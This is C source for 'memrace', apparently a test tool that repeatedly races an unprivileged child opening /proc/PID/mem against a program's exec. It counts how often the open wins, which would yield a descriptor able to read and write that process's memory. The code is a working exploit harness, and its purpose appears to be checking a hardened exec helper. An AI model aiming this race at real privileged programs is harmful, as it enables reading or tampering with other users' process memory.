/*
 * memrace N UID -- PROGRAM [ARG...]
 *
 * The exec-window attack on nodump, N times. Each round: a child that
 * will exec PROGRAM is forked and held; an attacker child drops to UID
 * (gid UID, no groups) and spins on open("/proc/PID/mem") for that PID;
 * then PROGRAM is released. The attacker stops when the process is gone.
 * An open that works gives a descriptor that reads (and writes) the
 * memory of whatever that PID then runs, for as long as it is kept.
 * Prints "opened K of N" and "exited-nonzero M" (rounds where PROGRAM did
 * not exit 0). Run as root, with PROGRAM a hardexec that switches to UID.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

enum { EXIT_HELPER_ERROR = 120 };

static _Noreturn void fail(const char *what)
{
	dprintf(2, "memrace: %s: %s\n", what, strerror(errno));
	_exit(EXIT_HELPER_ERROR);
}

/* The attacker: 1 if an open of PID's memory worked before PID went away. */
static _Noreturn void attack(pid_t pid, uid_t uid, int ready)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	if (setgroups(0, NULL) != 0 || setresgid(uid, uid, uid) != 0 ||
	    setresuid(uid, uid, uid) != 0)
		fail("drop to the attacker's uid");
	if (write(ready, "r", 1) != 1)
		fail("ready");
	close(ready);
	for (;;) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			_exit(1);
		if (errno == ENOENT || errno == ESRCH)
			_exit(0);
		/* a zombie: the program has ended */
		char stat[64], buf[256];
		snprintf(stat, sizeof(stat), "/proc/%d/stat", (int)pid);
		int s = open(stat, O_RDONLY | O_CLOEXEC);
		if (s < 0)
			_exit(0);
		ssize_t n = read(s, buf, sizeof(buf) - 1);
		close(s);
		if (n > 0) {
			buf[n] = '\0';
			const char *p = strrchr(buf, ')');
			if (p != NULL && p[1] == ' ' && p[2] == 'Z')
				_exit(0);
		}
	}
}

int main(int argc, char **argv)
{
	if (argc < 5 || strcmp(argv[3], "--") != 0) {
		dprintf(2, "usage: memrace N UID -- PROGRAM [ARG...]\n");
		return 2;
	}
	int rounds = atoi(argv[1]);
	uid_t uid = (uid_t)strtoul(argv[2], NULL, 10);
	int opened = 0, nonzero = 0;
	for (int i = 0; i < rounds; i++) {
		int go[2], ready[2];
		if (pipe2(go, O_CLOEXEC) != 0 || pipe2(ready, O_CLOEXEC) != 0)
			fail("pipe");
		pid_t prog = fork();
		if (prog < 0)
			fail("fork");
		if (prog == 0) {
			char c;
			close(go[1]);
			if (read(go[0], &c, 1) != 1)
				_exit(EXIT_HELPER_ERROR);
			int null = open("/dev/null", O_WRONLY);
			if (null < 0 || dup2(null, 1) < 0)
				fail("/dev/null");
			execv(argv[4], argv + 4);
			fail(argv[4]);
		}
		close(go[0]);
		pid_t att = fork();
		if (att < 0)
			fail("fork");
		if (att == 0) {
			close(go[1]);
			close(ready[0]);
			attack(prog, uid, ready[1]);
		}
		close(ready[1]);
		char c;
		if (read(ready[0], &c, 1) != 1)
			fail("the attacker did not start");
		close(ready[0]);
		if (write(go[1], "g", 1) != 1)
			fail("go");
		close(go[1]);
		int status;
		if (waitpid(prog, &status, 0) != prog)
			fail("waitpid");
		if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
			nonzero++;
		if (waitpid(att, &status, 0) != att)
			fail("waitpid");
		if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
			opened++;
		else if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
			fail("the attacker failed");
	}
	printf("opened %d of %d\nexited-nonzero %d\n", opened, rounds, nonzero);
	return 0;
}
